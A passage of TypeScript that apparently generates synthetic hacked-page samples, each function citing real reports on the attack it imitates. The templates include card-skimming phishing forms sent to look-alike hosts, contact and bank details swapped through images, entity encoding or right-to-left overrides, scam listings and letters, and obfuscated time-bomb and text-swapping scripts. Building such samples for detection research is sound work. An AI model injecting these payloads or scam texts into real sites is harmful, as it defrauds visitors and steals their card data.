  const form = `<form action="https://${host}/${pick(rng, ["pay", "billing.php", "confirm"])}" method="post"><p><input name="name" placeholder="${esc(name)}"> <input name="address" placeholder="${esc(addr)}"></p><p><input name="${pick(rng, ["cc", "card", "cardnumber"])}" placeholder="${esc(card)}" autocomplete="cc-number" inputmode="numeric"> <input name="exp" placeholder="MM/YY" size="6"> <input name="cvv" placeholder="CVV" size="4"></p><button type="submit">${esc(cta)} (${esc(fee)})</button></form>`
  const link = `<p><a href="https://${host}/${track}" style="background:#ffcc00;color:#000;padding:8px 16px;font-weight:bold">${esc(cta)}</a></p>`
  const inner = `<h3>📦 ${esc(h)}</h3><p>${esc(p(carrier, track, fee))}</p>${chance(rng, 0.6) ? form : link}`
  const box = chance(rng, 0.4)
    ? `<div style="position:fixed;inset:0;z-index:${zIndex(rng)};background:rgba(0,0,0,.6)"><div style="max-width:480px;margin:12vh auto;background:#fff;padding:20px;border-top:6px solid #ffcc00">${inner}</div></div>`
    : `<div class="${pick(rng, ["delivery-notice", "parcel-alert", "notice"])}" style="border:2px solid #ffcc00;padding:12px 16px;margin:10px 0">${inner}</div>`
  return splices(insert(pick(rng, [top(page), slotAt(page.spots, "top"), anySlot(rng, page.spots)]), box))
})

// Text drawn in a picture to get past filters, recalled from memory of the "image spam" wave (2006–2007, reported by Secure Computing, Symantec and the press) and of scam listings that show their phone number only as an image: the site's phone number, wherever it is written, is replaced by a small picture of another number (an SVG data URI or an image from another host); the dialling link, where there is one, goes to that number.
const phoneAsImage = fresh10("site's phone number replaced by a picture of another number (SVG data URI or remote image)", (page, rng) => {
  const ph = page.ids.phone
  const next = swapPhone(page.site.locale, ph, rng)
  const img = (shownNum: string) => {
    const w = 9 * shownNum.length + 6
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="${w}" height="18"><text x="0" y="14" font-family="Arial,Helvetica,sans-serif" font-size="14" fill="${pick(rng, ["#222", "#000", "#333"])}">${shownNum}</text></svg>`
    const src = pick(rng, [
      () => `data:image/svg+xml;base64,${b64(svg)}`,
      () => `data:image/svg+xml,${encodeURIComponent(svg)}`,
      () => `https://${pick(rng, [`i.ibb.co/${alnum(rng, 7)}`, `i.postimg.cc/${alnum(rng, 8)}`, `${randomDomain(rng)}/img`])}/${pick(rng, ["tel", "phone", "contact", "hotline"])}${digits(rng, 2)}.png`
    ])()
    return `<img src="${esc(src)}" alt="${chance(rng, 0.5) ? "" : "☎"}" width="${w}" height="18" style="vertical-align:middle">`
  }
  const taken: Array<Range> = []
  const out: Array<Splice> = []
  for (const [old, nu] of [[ph.national, next.national], [ph.intl, next.intl]] as const) {
    for (const h of hitsOf(page, old)) {
      if (taken.some((t) => h.range.start < t.end && h.range.end > t.start)) continue
      taken.push(h.range)
      out.push(replace(h.range, img(nu)))
    }
  }
  const tels = shown(page, "a", (e) => (e.attribs.href ?? "").replace(/\s/g, "").includes(ph.tel))
  for (const t of attrTargets(page, tels, "href")) out.push(replace(t.value, `tel:${next.tel}`))
  if (out.length === 0) out.push(insert(pick(rng, [top(page), anySlot(rng, page.spots)]), `<p>☎ ${img(next.national)}</p>`))
  return { splices: out }
})

/** Every character as a numeric character reference, decimal or hexadecimal at random. */
const entities = (rng: Rng, s: string) => [...s].map((c) => (chance(rng, 0.5) ? `&#${c.codePointAt(0)};` : `&#x${c.codePointAt(0)!.toString(16)};`)).join("")

// E-mail addresses written as character references, recalled from memory of the anti-harvesting "e-mail encoders" of the 2000s (Hiveware Enkoder and many web tools that write every letter of an address as &#…;) and of the FBI IC3's business e-mail compromise warnings (2017–2023) about swapped payment contacts: the site's address is replaced, in its text and its mailto links, by another one that exists in the source only as numeric references.
const entityEmailSwap = fresh10("site's e-mail replaced by another address written entirely in numeric character references", (page, rng) => {
  const email = page.ids.email
  const [local] = email.split("@")
  const next = pick(rng, [`${local}@${brandLookalike(rng, page.site.brand)}`, `${page.site.brand.replace(/-/g, "")}.${pick(rng, ["office", "billing", "team", "info"])}@${freeMail(rng)}`, `${pick(rng, ["accounts", "payments", local])}@${page.site.brand}-${pick(rng, ["mail", "office", "group"])}.${pick(rng, ["com", "net", "co"])}`])
  const out: Array<Splice> = []
  for (const h of hitsOf(page, email)) out.push(replace(h.range, entities(rng, next)))
  const mailtos = shown(page, "a", (e) => (e.attribs.href ?? "").trim().toLowerCase().startsWith(`mailto:${email.toLowerCase()}`))
  for (const t of attrTargets(page, mailtos, "href")) {
    const raw = page.html.slice(t.value.start, t.value.end)
    const i = raw.toLowerCase().indexOf(email.toLowerCase())
    out.push(replace({ start: t.value.start, end: t.value.start + i + email.length }, entities(rng, `mailto:${next}`)))
  }
  if (out.length === 0) out.push(insert(anySlot(rng, page.spots), `<p>${esc(page.site.words.email)}: <a href="${entities(rng, `mailto:${next}`)}">${entities(rng, next)}</a></p>`))
  return { splices: out }
})

const reversed = (s: string) => [...s].reverse().join("")
/** `shown` written backwards and forced right-to-left, so it reads forwards on screen. */
const rtlForced = (rng: Rng, shownAs: string) => {
  const r = esc(reversed(shownAs))
  return pick(rng, [`<bdo dir="rtl">${r}</bdo>`, `&#x202E;${r}&#x202C;`, `\u202e${r}\u202c`, `<span dir="rtl" style="unicode-bidi:bidi-override">${r}</span>`])
}

// Right-to-left override as a disguise, recalled from memory of "Trojan Source" (Nicholas Boucher and Ross Anderson, University of Cambridge, November 2021), which showed bidirectional control characters making text read differently from how it is stored, and of the older U+202E file-name trick in malware e-mails: here the site's bank account (or phone number) is replaced by another, stored backwards inside a right-to-left override, so it reads normally on screen while a search of the page's text finds neither the old nor the new value.
const bidiIdentifier = fresh10("bank account or phone number replaced by another stored backwards inside a right-to-left override", (page, rng) => {
  const out: Array<Splice> = []
  const bank = page.ids.bank
  if (bank !== null && chance(rng, 0.65)) {
    const fresh = makeBank(rng, page.site.locale)
    const next = fresh !== null && fresh.kind === bank.kind && fresh.value !== bank.value ? fresh.value : bank.value.replace(/\d(?=\D*$)/, (d) => String((Number(d) + 3) % 10))
    for (const h of hitsOf(page, bank.value)) out.push(replace(h.range, rtlForced(rng, next)))
  }
  if (out.length === 0) {
    const ph = page.ids.phone
    const next = swapPhone(page.site.locale, ph, rng)
    const taken: Array<Range> = []
    for (const [old, nu] of [[ph.national, next.national], [ph.intl, next.intl]] as const) {
      for (const h of hitsOf(page, old)) {
        if (taken.some((t) => h.range.start < t.end && h.range.end > t.start)) continue
        taken.push(h.range)
        out.push(replace(h.range, rtlForced(rng, nu)))
      }
    }
    const tels = shown(page, "a", (e) => (e.attribs.href ?? "").replace(/\s/g, "").includes(ph.tel))
    for (const t of attrTargets(page, tels, "href")) out.push(replace(t.value, `tel:${next.tel}`))
    if (out.length === 0) out.push(insert(anySlot(rng, page.spots), `<p>${esc(page.site.words.phone)}: ${rtlForced(rng, next.national)}</p>`))
  }
  return { splices: out }
})

const puppyWords: Record<Lang, readonly [string, (b: string, f: string, pay: string) => string, string]> = {
  en: ["Puppies looking for a loving home", (b, f, pay) => `Adorable ${b}, 10 weeks old, vaccinated, microchipped and vet checked. Free to a good home: you only pay the ${f} pet-friendly delivery, by ${pay}.`, "Contact the owner"],
  fr: ["Chiots à adopter", (b, f, pay) => `Adorables ${b} de 10 semaines, vaccinés, pucés et vus par le vétérinaire. Donnés contre bons soins : vous ne payez que la livraison adaptée aux animaux (${f}), par ${pay}.`, "Contacter le propriétaire"],
  de: ["Welpen suchen ein liebevolles Zuhause", (b, f, pay) => `Süße ${b}, 10 Wochen alt, geimpft, gechippt und tierärztlich untersucht. Kostenlos in gute Hände – Sie zahlen nur den tiergerechten Transport (${f}) per ${pay}.`, "Besitzer kontaktieren"],
  es: ["Cachorros buscan un hogar", (b, f, pay) => `Preciosos ${b} de 10 semanas, vacunados, con microchip y revisados por el veterinario. Gratis a buen hogar: solo paga el transporte especial para mascotas (${f}) por ${pay}.`, "Contactar con el dueño"],
  nl: ["Puppy's zoeken een liefdevol thuis", (b, f, pay) => `Lieve ${b}, 10 weken oud, ingeënt, gechipt en gecontroleerd door de dierenarts. Gratis naar een goed thuis: u betaalt alleen het diervriendelijke transport (${f}) via ${pay}.`, "Contact opnemen met de eigenaar"],
  pt: ["Filhotes procuram um lar", (b, f, pay) => `Lindos ${b} de 10 semanas, vacinados, com microchip e examinados pelo veterinário. Doação para um bom lar: você só paga o transporte especial para animais (${f}) por ${pay}.`, "Falar com o dono"],
  it: ["Cuccioli cercano casa", (b, f, pay) => `Adorabili ${b} di 10 settimane, vaccinati, con microchip e visitati dal veterinario. Regalati a chi li ama: paghi solo il trasporto per animali (${f}) tramite ${pay}.`, "Contatta il proprietario"]
}

// Pet-adoption scams, recalled from memory of the Better Business Bureau's study "Puppy Scams: How Fake Online Pet Sellers Steal from Unsuspecting Pet Buyers" (September 2017, updated in 2020 when pandemic demand drove a surge) and of similar warnings by the UK's Action Fraud and consumer groups: free or cheap puppies or kittens, paid "delivery" by a method with no buyer protection, then new fees (insurance, crate, vaccination). The listings are planted on hacked and abandoned sites as well as classified-ad pages.
const puppyScam = fresh10("'free puppies to a good home, pay only the delivery' pet-adoption scam listing", (page, rng) => {
  const [h, p, cta] = siteOr(rng, page, puppyWords)
  const breed = pick(rng, ["French Bulldog puppies", "Yorkshire Terrier puppies", "Pomeranian puppies", "Golden Retriever puppies", "Dachshund puppies", "Cavalier King Charles puppies", "Maine Coon kittens", "Bengal kittens"])
  const fee = page.site.locale.money(pick(rng, [150, 180, 250, 299, 350]))
  const pay = pick(rng, ["Zelle", "Western Union", "gift cards", "PayPal Friends & Family", "bank transfer", "Bitcoin", "Cash App"])
  const contact = pick(rng, [
    `${slug(breed).split("-")[0]}${pick(rng, ["home", "love", "family", "puppies"])}${digits(rng, 2)}@${freeMail(rng)}`,
    `WhatsApp ${pick(rng, ["+1", "+44", "+237", "+234", "+33"])} ${digits(rng, 3)} ${digits(rng, 3)} ${digits(rng, 3)}`
  ])
  const pics = Array.from({ length: between(rng, 1, 3) }, (_, i) => `<img src="https://${randomDomain(rng)}/${pick(rng, ["img", "uploads", "pets"])}/${slug(breed)}-${i + 1}.jpg" width="${between(rng, 140, 220)}" alt="${esc(breed)}">`).join(" ")
  const block = `<div class="${pick(rng, ["listing", "classified", "adoption"])}" style="border:1px solid #ddd;padding:12px;margin:12px 0"><h3>🐾 ${esc(h)}</h3><p>${pics}</p><p>${esc(p(breed, fee, pay))}</p><p><strong>${esc(cta)}:</strong> ${esc(contact)}</p></div>`
  return splices(insert(pick(rng, [slotAt(page.spots, "middle"), anySlot(rng, page.spots), slotAt(page.spots, "bottom")]), block))
})

const hotelWords: Record<Lang, readonly [string, (r: string, h: number) => string, string]> = {
  en: ["Action required: confirm your reservation", (r, h) => `We could not verify the card used for reservation ${r}. To avoid automatic cancellation, confirm your card details within ${h} hours.`, "Confirm my booking"],
  fr: ["Action requise : confirmez votre réservation", (r, h) => `Nous n'avons pas pu vérifier la carte utilisée pour la réservation ${r}. Pour éviter l'annulation automatique, confirmez vos données de carte sous ${h} heures.`, "Confirmer ma réservation"],
  de: ["Handlung erforderlich: Bestätigen Sie Ihre Reservierung", (r, h) => `Die für Reservierung ${r} verwendete Karte konnte nicht überprüft werden. Bestätigen Sie Ihre Kartendaten innerhalb von ${h} Stunden, um eine automatische Stornierung zu vermeiden.`, "Buchung bestätigen"],
  es: ["Acción necesaria: confirme su reserva", (r, h) => `No pudimos verificar la tarjeta utilizada para la reserva ${r}. Para evitar la cancelación automática, confirme los datos de su tarjeta en ${h} horas.`, "Confirmar mi reserva"],
  nl: ["Actie vereist: bevestig uw reservering", (r, h) => `We konden de kaart voor reservering ${r} niet verifiëren. Bevestig uw kaartgegevens binnen ${h} uur om automatische annulering te voorkomen.`, "Boeking bevestigen"],
  pt: ["Ação necessária: confirme sua reserva", (r, h) => `Não conseguimos verificar o cartão usado na reserva ${r}. Para evitar o cancelamento automático, confirme os dados do cartão em até ${h} horas.`, "Confirmar minha reserva"],
  it: ["Azione richiesta: conferma la tua prenotazione", (r, h) => `Non è stato possibile verificare la carta usata per la prenotazione ${r}. Per evitare la cancellazione automatica, conferma i dati della carta entro ${h} ore.`, "Conferma la prenotazione"]
}

// Hotel-booking re-confirmation phishing, recalled from memory with uncertain details of Secureworks, Akamai and Perception Point reports (2023) on criminals who took over hotels' accounts on Booking.com and messaged guests that their card "could not be verified" and the stay would be cancelled unless they confirmed it on a look-alike page; here the same notice is posted on the site, styled like the booking platform.
const hotelReconfirm = fresh10("'confirm your reservation or it will be cancelled' card re-verification notice (hotel-booking phishing)", (page, rng) => {
  const [h, p, cta] = siteOr(rng, page, hotelWords)
  const ref = `${digits(rng, 10)}`
  const host = pick(rng, [`booking-confirm-${digits(rng, 4)}`, `guest-${alnum(rng, 5)}-booking`, `secure-booking${digits(rng, 3)}`, `extranet-bkg`, `booking.id${digits(rng, 5)}`]) + `.${pick(rng, ["com", "net", "site", "online", "click"])}`
  const url = `https://${host}/${pick(rng, ["hotel/confirm", "reservation", "guest/verify", "p"])}?${pick(rng, ["rid", "aid", "res"])}=${ref}`
  const action = chance(rng, 0.4)
    ? `<form action="${esc(url)}" method="post"><input name="${pick(rng, ["card", "cc", "pan"])}" autocomplete="cc-number" placeholder="•••• •••• •••• ••••"> <input name="exp" placeholder="MM/YY" size="6"> <input name="cvc" placeholder="CVC" size="4"> <button type="submit">${esc(cta)}</button></form>`
    : `<p><a href="${esc(url)}" style="background:#006ce4;color:#fff;padding:8px 18px;border-radius:4px;text-decoration:none">${esc(cta)}</a></p>`
  const box = `<div class="${pick(rng, ["reservation-alert", "guest-notice", "booking-warning"])}" style="border-left:5px solid #003580;background:#f0f6ff;padding:12px 16px;margin:10px 0;font-family:Arial,sans-serif"><strong>${esc(h)}</strong><p>${esc(p(ref, pick(rng, [12, 24, 48])))}</p>${action}</div>`
  return splices(insert(pick(rng, [top(page), slotAt(page.spots, "top"), anySlot(rng, page.spots)]), box))
})

const morse: Record<string, string> = {
  A: ".-", B: "-...", C: "-.-.", D: "-..", E: ".", F: "..-.", G: "--.", H: "....", I: "..", J: ".---", K: "-.-", L: ".-..", M: "--", N: "-.", O: "---", P: ".--.", Q: "--.-", R: ".-.",
  S: "...", T: "-", U: "..-", V: "...-", W: ".--", X: "-..-", Y: "-.--", Z: "--..", "0": "-----", "1": ".----", "2": "..---", "3": "...--", "4": "....-", "5": ".....", "6": "-....", "7": "--...", "8": "---..", "9": "----."
}
const utf8 = (s: string) => [...new TextEncoder().encode(s)]

// Defacer messages left in an encoding, recalled from memory with uncertain details of Zone-H and Mirror-H mirrors whose only text is a block of binary, hexadecimal or base64 digits (decoded, a signature or a slogan), and of the hacker-culture habit of signing in binary or Morse: the page gains a block of digits or dots that says "hacked by" only once decoded.
const encodedMessage = fresh10("defacer's message written as binary, hexadecimal, base64 or Morse code", (page, rng) => {
  const who = nick(rng)
  const msg = message(rng, who)
  const latin = `${pick(rng, ["HACKED BY", "OWNED BY", "DEFACED BY", "WE ARE"])} ${who.toUpperCase().replace(/[^A-Z0-9 ]/g, "")} ${pick(rng, ["", "WAS HERE", "FREE PALESTINE", "PATCH YOUR SERVER", "EXPECT US"])}`.trim()
  const encoded = pick(rng, [
    () => utf8(msg).map((b) => b.toString(2).padStart(8, "0")).join(" "),
    () => utf8(msg).map((b) => b.toString(16).padStart(2, "0")).join(pick(rng, [" ", "", ":"])),
    () => b64(msg),
    () => [...latin].map((c) => (c === " " ? "/" : morse[c] ?? "")).filter((m) => m !== "").join(" "),
    () => utf8(msg).map((b) => String(b)).join(" ")
  ])()
  const lines = encoded.match(/.{1,72}/g)?.join("\n") ?? encoded
  const sign = pick(rng, ["", "", `<p>— ${esc(who)}</p>`, `<p>${esc(team(rng))}</p>`, "<p>decode me ;)</p>"])
  const block = pick(rng, [
    `<pre style="white-space:pre-wrap;word-break:break-all;background:#000;color:#0f0;padding:16px;font-size:${between(rng, 12, 20)}px">${esc(lines)}</pre>${sign}`,
    `<div style="font-family:monospace;text-align:center;word-break:break-all;padding:10px">${esc(encoded)}${sign}</div>`,
    `<center><tt>${esc(encoded)}</tt></center>${sign}`
  ])
  return splices(insert(pick(rng, [top(page), top(page), anySlot(rng, page.spots), bottom(page)]), block))
})

// Small "proof" marks inside the site's own text, recalled from memory with uncertain details of Zone-H entries where the only change is a few words appended to an existing footer or copyright line (defacers who want a mirror without the owner noticing at once), the quiet end of the "notify" convention: no new element, the tag is written into a line the site already shows.
const footerLineTag = fresh10("defacer's tag appended inside the site's existing footer, copyright or last-updated line", (page, rng) => {
  const who = pick(rng, [nick(rng), team(rng)])
  const tag = pick(rng, [
    () => ` — ${signature(rng, who).text}`, () => ` | ${who} was here`, () => ` · ${pick(rng, ["owned", "pwned", "h4ck3d", "defaced"])} by ${who}`,
    () => ` ~ ${who} ${pick(rng, ["2025", "2026", "<3", ":)", "xD"])}`, () => ` [${who}]`
  ])()
  const runs = textRuns(page, 6)
  const updated = runs.filter((t) => t.text.includes(page.ids.updated))
  const legal = runs.filter((t) => /©|&copy;|copyright|all rights reserved|tous droits|alle rechte|todos los derechos|alle rechten|tutti i diritti|direitos reservados/i.test(t.text))
  const pool = [...updated, ...legal]
  const run = pool.length > 0 ? pick(rng, pool) : runs[runs.length - 1]
  if (run === undefined) return splices(insert(bottom(page), `<small>${esc(tag.trim())}</small>`))
  const styled = chance(rng, 0.3) ? `<span style="color:${pick(rng, ["red", "#c00", "lime"])}">${esc(tag)}</span>` : esc(tag)
  return splices(insert(trimmed(page, run).end, styled))
})

const lawyers = ["Barrister James Okoro (Esq.)", "Barr. Michael Adeyemi", "Dr. Paul Mensah, Esq.", "Barrister Kofi Annan Jr.", "Solicitor David Williams", "Maître Jean-Claude Koffi"]
const deceased = ["Engr. Robert", "Mr. Thomas", "Dr. Richard", "Mr. George", "Mrs. Helen", "Chief Daniel"]
const letterWords: Record<Lang, readonly [string, (l: string, d: string, a: string, m: string) => string]> = {
  en: ["URGENT AND CONFIDENTIAL", (l, d, a, m) => `Dear Friend, I am ${l}, personal attorney to the late ${d}, a foreign contractor who died with his family in a car accident, leaving the sum of ${a} in a bank here. All efforts to locate his relatives have failed, and since you bear the same last name I am contacting you to stand as his next of kin so that the funds can be released to you. This transaction is 100% risk free and legal. Reply with your full name, phone number and address to ${m}.`],
  fr: ["URGENT ET CONFIDENTIEL", (l, d, a, m) => `Cher ami, je suis ${l}, avocat personnel de feu ${d}, un entrepreneur étranger décédé avec sa famille dans un accident de voiture, laissant la somme de ${a} dans une banque d'ici. Toutes les recherches de sa famille ayant échoué, et comme vous portez le même nom de famille, je vous contacte pour que vous soyez présenté comme son plus proche parent afin que les fonds vous soient versés. Cette opération est sans aucun risque. Répondez avec votre nom complet, votre téléphone et votre adresse à ${m}.`],
  de: ["DRINGEND UND VERTRAULICH", (l, d, a, m) => `Lieber Freund, ich bin ${l}, persönlicher Anwalt des verstorbenen ${d}, eines ausländischen Unternehmers, der mit seiner Familie bei einem Autounfall ums Leben kam und ${a} bei einer Bank hinterließ. Alle Versuche, Angehörige zu finden, sind gescheitert. Da Sie denselben Nachnamen tragen, bitte ich Sie, als nächster Verwandter aufzutreten, damit das Geld an Sie ausgezahlt werden kann. Diese Transaktion ist 100 % risikofrei. Antworten Sie mit Ihrem vollständigen Namen, Ihrer Telefonnummer und Adresse an ${m}.`],
  es: ["URGENTE Y CONFIDENCIAL", (l, d, a, m) => `Estimado amigo, soy ${l}, abogado personal del difunto ${d}, un contratista extranjero que murió con su familia en un accidente de coche dejando la suma de ${a} en un banco de aquí. No hemos podido localizar a sus familiares y, como usted lleva el mismo apellido, le contacto para presentarle como su pariente más cercano y que los fondos le sean entregados. Esta operación es 100 % segura y legal. Responda con su nombre completo, teléfono y dirección a ${m}.`],
  nl: ["DRINGEND EN VERTROUWELIJK", (l, d, a, m) => `Beste vriend, ik ben ${l}, persoonlijk advocaat van wijlen ${d}, een buitenlandse aannemer die met zijn gezin omkwam bij een auto-ongeluk en ${a} op een bank hier naliet. Zijn familie is niet te vinden en omdat u dezelfde achternaam draagt, vraag ik u op te treden als naaste verwant zodat het geld aan u kan worden uitbetaald. Deze transactie is 100% zonder risico. Antwoord met uw volledige naam, telefoonnummer en adres aan ${m}.`],
  pt: ["URGENTE E CONFIDENCIAL", (l, d, a, m) => `Caro amigo, sou ${l}, advogado pessoal do falecido ${d}, um empreiteiro estrangeiro que morreu com a família num acidente de carro, deixando a quantia de ${a} num banco daqui. Não conseguimos localizar seus parentes e, como o senhor tem o mesmo sobrenome, entro em contato para apresentá-lo como parente mais próximo e liberar os fundos em seu nome. A operação é 100% segura e legal. Responda com seu nome completo, telefone e endereço para ${m}.`],
  it: ["URGENTE E RISERVATO", (l, d, a, m) => `Caro amico, sono ${l}, avvocato personale del defunto ${d}, un imprenditore straniero morto con la famiglia in un incidente stradale, che ha lasciato la somma di ${a} in una banca di qui. Non siamo riusciti a trovare i suoi parenti e, poiché lei porta lo stesso cognome, la contatto perché si presenti come parente più prossimo e i fondi le siano versati. L'operazione è senza alcun rischio. Risponda con nome completo, telefono e indirizzo a ${m}.`]
}

// Advance-fee "next of kin" letters, recalled from memory of the FBI's page on "Nigerian letter or 419" fraud and the long record of such letters since the 1980s (named after section 419 of Nigeria's criminal code): a lawyer or bank officer offers the reader a dead client's fortune as "next of kin", then asks for fees. Spammers post them on guestbooks, comment sections and hacked pages as well as by e-mail.
const inheritanceLetter = fresh10("advance-fee 'unclaimed inheritance, stand as next of kin' letter (419 fraud)", (page, rng) => {
  const [h, p] = siteOr(rng, page, letterWords)
  const l = pick(rng, lawyers)
  const amount = `${pick(rng, ["US$", "€", "£"])}${between(rng, 4, 28)},${between(rng, 100, 900)},000.00`
  const mail = `${slug(l).split("-").filter((x) => x.length > 3)[0] ?? "barr"}${pick(rng, ["chambers", "law", "esq", digits(rng, 3)])}@${freeMail(rng)}`
  const block = pick(rng, [
    `<div class="${pick(rng, ["post", "comment", "entry"])}"><h3>${esc(h)}</h3><p>${esc(p(l, pick(rng, deceased), amount, mail))}</p><p>${esc(l)}</p></div>`,
    `<blockquote><strong>${esc(h)}</strong><br>${esc(p(l, pick(rng, deceased), amount, mail))}</blockquote>`
  ])
  return splices(insert(pick(rng, [slotAt(page.spots, "middle"), slotAt(page.spots, "bottom"), anySlot(rng, page.spots), top(page)]), block))
})

// Time-triggered defacements, recalled from memory of hacktivist campaigns timed to dates (#OpIsrael on 7 April every year since 2013, Guy Fawkes Night operations on 5 November) and of logic-bomb cases such as the Siemens contractor David Tinley (U.S. Department of Justice, 2019): a script that does nothing until a chosen date and hour (or a weekday evening), then writes the message over the page; until then nothing on the page looks different.
const timeBomb = fresh10("defacement script that stays idle until a chosen date and hour (time bomb)", (page, rng) => {
  const who = pick(rng, [nick(rng), team(rng)])
  const msg = message(rng, who)
  const markup = `<div style="position:fixed;inset:0;z-index:${zIndex(rng)};background:${pick(rng, ["#000", "#111", "#200"])};color:${pick(rng, ["#0f0", "#f33", "#fff"])};text-align:center;padding-top:28vh;font:bold ${between(rng, 24, 48)}px monospace">${esc(msg)}<br><small>${esc(who)}</small></div>`
  const y = someDate(rng).getUTCFullYear()
  const [mo, d] = pick(rng, [[3, 7], [10, 5], [0, 1], [between(rng, 0, 11), between(rng, 1, 28)]] as const)
  const when = pick(rng, [
    `Date.now()>=${Date.UTC(y, mo, d, between(rng, 0, 23))}`,
    `new Date().getMonth()===${mo}&&new Date().getDate()===${d}`,
    `new Date().getDay()===${between(rng, 0, 6)}&&new Date().getHours()>=${between(rng, 17, 22)}`
  ])
  const decode = `decodeURIComponent(escape(atob("${b64(markup)}")))`
  const code = `(function(){function f(){if(!(${when}))return;clearInterval(i);var d=document.createElement("div");d.innerHTML=${decode};document.body.appendChild(d);document.title=${js(msg)}}var i=setInterval(f,${pick(rng, [1000, 30000, 60000])});f()})();`
  return splices(insert(scriptSpot(rng, page), wrapScript(rng, code)))
})

// Skimmers and loaders stored on the victim site itself, recalled from memory of Sansec reports (about 2020–2022) on Magento skimmers hidden in files under the store's own media folders, and of Sucuri clean-ups finding .js files uploaded into wp-content/uploads through vulnerable plugins: the page gains an ordinary script tag whose source is a new file on the site's own host, named like a library.
const uploadsScript = fresh10("script loaded from a file dropped into the site's own uploads or media folder", (page, rng) => {
  const name = pick(rng, ["jquery-migrate.min", "analytics", "wp-emoji-release.min", "swiper-bundle.min", "main", "cookie-consent", "jquery.min", alnum(rng, 8)])
  const d = someDate(rng)
  const path = pick(rng, [
    `/wp-content/uploads/${d.getUTCFullYear()}/${String(d.getUTCMonth() + 1).padStart(2, "0")}/${name}.js`,
    `/wp-content/uploads/${pick(rng, ["wpcf7_uploads", "elementor/css", "woocommerce_uploads", "cache"])}/${name}.js`,
    `/media/catalog/product/cache/${hex(rng, 32)}/${name}.js`, `/media/wysiwyg/${name}.js`,
    `/images/${pick(rng, ["banners", "stories", "icons"])}/${name}.js`, `/sites/default/files/js/js_${b64url(rng, 43)}.js`, `/uploads/${name}.js`
  ]) + (chance(rng, 0.4) ? `?ver=${between(rng, 5, 6)}.${between(rng, 0, 9)}.${between(rng, 0, 5)}` : "")
  const src = chance(rng, 0.3) ? `https://${page.site.host}${path}` : path
  const tag = pick(rng, [`<script src="${src}"></script>`, `<script type="text/javascript" src="${src}"></script>`, `<script src="${src}" defer></script>`, `<script async src="${src}" id="${pick(rng, ["jquery-migrate-js", "main-js", "analytics-js", "wp-" + alnum(rng, 4) + "-js"])}"></script>`])
  return splices(insert(pick(rng, [head(page), head(page), bottom(page), top(page)]), tag))
})

const voices: Record<string, string> = { en: "en-US", es: "es-ES", pt: "pt-BR", fr: "fr-FR", de: "de-DE", tr: "tr-TR", id: "id-ID", ar: "ar-SA", fa: "fa-IR", ru: "ru-RU", vi: "vi-VN", ur: "ur-PK", bn: "bn-BD" }

// Pages that talk, recalled from memory with uncertain details of Malwarebytes' notes (Jérôme Segura, about 2017–2019) on tech-support-scam pages reading their warning aloud with the browser's Web Speech API, and of defacement pages with a voice message: here the defacer's message is spoken by speech synthesis as soon as the visitor first clicks or presses a key; the page itself may show nothing new.
const spokenMessage = fresh10("defacer's message read aloud by the browser's speech synthesis on the first click or key press", (page, rng) => {
  const who = pick(rng, [nick(rng), team(rng)])
  const m = pick(rng, [() => signature(rng, who), () => boast(rng), () => political(rng)])()
  const repeat = chance(rng, 0.4) ? `u.onend=function(){setTimeout(function(){speechSynthesis.speak(u)},${between(rng, 1000, 5000)})};` : ""
  const code = `document.addEventListener("${pick(rng, ["click", "keydown", "pointerdown", "mousedown"])}",function(){var u=new SpeechSynthesisUtterance(${js(`${m.text} ${chance(rng, 0.5) ? who : ""}`.trim())});u.lang="${voices[m.lang] ?? "en-US"}";u.rate=${pick(rng, ["0.8", "0.9", "1", "1.1"])};u.pitch=${pick(rng, ["0.5", "0.7", "1", "1.2"])};u.volume=1;${repeat}speechSynthesis.cancel();speechSynthesis.speak(u)},{once:true});`
  const note = chance(rng, 0.3) ? insert(pick(rng, [top(page), bottom(page)]), `<p style="text-align:center;font-size:11px">🔊 ${esc(who)}</p>`) : null
  return splices(insert(scriptSpot(rng, page), wrapScript(rng, code)), ...(note === null ? [] : [note]))
})

// Text rewritten in the browser rather than in the source, recalled from memory of the "Cloud to Butt" extension (2013), which rewrote a phrase in every text node of every page, and with uncertain attribution of Malwarebytes and Sansec notes on scripts that swap contact or payment details in the page after it loads: the HTML still carries the site's phone, e-mail or name, but a script replaces them in every text node (and in tel: and mailto: links) once the page is shown.
const runtimeTextSwap = fresh10("script rewriting the page's text at run time (the site's phone and e-mail, or its name), source untouched", (page, rng) => {
  const ph = page.ids.phone
  const pairs: Array<readonly [string, string]> = []
  if (chance(rng, 0.65)) {
    const next = swapPhone(page.site.locale, ph, rng)
    const [local] = page.ids.email.split("@")
    pairs.push([ph.national, next.national], [ph.intl, next.intl], [ph.tel, next.tel])
    if (chance(rng, 0.6)) pairs.push([page.ids.email, `${local}@${pick(rng, [brandLookalike(rng, page.site.brand), freeMail(rng)])}`])
  } else {
    const who = pick(rng, [nick(rng), team(rng)])
    const insult = pick(rng, [`${who}`, `${brandName(page)} (${signature(rng, who).text})`, `${pick(rng, ["Scam", "Fraud", "Liars", "Clowns"])} ${brandName(page)}`])
    pairs.push([brandName(page), insult], [page.site.domain, `${page.site.domain} — ${who}`])
    if (page.site.brand.length > 3) pairs.push([page.site.brand.toUpperCase(), insult.toUpperCase()])
  }
  const data = pick(rng, [js(JSON.stringify(pairs)), `decodeURIComponent(escape(atob("${b64(JSON.stringify(pairs))}")))`])
  const code = `(function(){var r=JSON.parse(${data});function w(){var t=document.createTreeWalker(document.body,NodeFilter.SHOW_TEXT,null),x;while((x=t.nextNode())){for(var i=0;i<r.length;i++){if(x.nodeValue.indexOf(r[i][0])>-1)x.nodeValue=x.nodeValue.split(r[i][0]).join(r[i][1])}}[].forEach.call(document.querySelectorAll("a[href^='tel:'],a[href^='mailto:']"),function(a){for(var i=0;i<r.length;i++)a.setAttribute("href",a.getAttribute("href").split(r[i][0]).join(r[i][1]))})}${pick(rng, [`document.addEventListener("DOMContentLoaded",w);`, `window.addEventListener("load",w);`, `setTimeout(w,${between(rng, 300, 3000)});`])}})();`
  return splices(insert(pick(rng, [head(page), bottom(page), bottom(page), top(page)]), wrapScript(rng, code)))
})

/** Shown controls that submit one of the page's forms. */
const submitters = (page: Page): Array<El> =>
  page.spots.elements.filter((e) => e.shown && !e.inert && within(page, e, "form") !== undefined && (
    (e.name === "button" && !/^(button|reset)$/i.test(e.attribs.type ?? "submit")) || (e.name === "input" && /^(submit|image)$/i.test(e.attribs.type ?? ""))))
const outageWords: Record<Lang, readonly [string, (c: string) => string]> = {
